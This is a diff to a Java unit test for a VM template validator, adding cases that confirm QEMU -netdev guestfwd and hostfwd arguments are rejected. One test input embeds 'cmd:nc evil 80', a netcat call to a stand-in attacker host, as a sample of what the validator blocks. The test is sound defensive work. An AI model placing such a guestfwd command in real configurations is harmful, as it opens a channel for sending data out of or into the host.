@@ -148,6 +148,10 @@ class VmTemplateValidatorTest {
                 + " pod does not have; use spec.devices.network.mode user");
         testArgs(List.of("-netdev", "user,id=n0,smb=/srv"), "spec.qemu.extraArgs[1]: smb= refers to files on the host"
                 + " that the pod does not have; boot files come from spec.boot (hostPath, persistentVolumeClaim or image)");
+        testArgs(List.of("-netdev", "user,id=n0,guestfwd=tcp:10.0.2.100:80-cmd:nc evil 80"), "spec.qemu.extraArgs[1]:"
+                + " guestfwd connects the guest to host commands or sockets; remove it");
+        testArgs(List.of("-netdev", "user,id=n0,hostfwd=tcp::2222-:22"), "spec.qemu.extraArgs[1]: hostfwd belongs to"
+                + " each clone, not to the template; use VmClone spec.portForwards");
         testArgs(List.of("-qmp", "unix:/tmp/q.sock"), "spec.qemu.extraArgs[0]: -qmp: the operator owns QEMU's monitor and QMP; remove it");
         testArgs(List.of("-serial", "file:/tmp/log"), "spec.qemu.extraArgs[0]: -serial: the operator owns the serial"
                 + " console; use spec.devices.serialConsole");
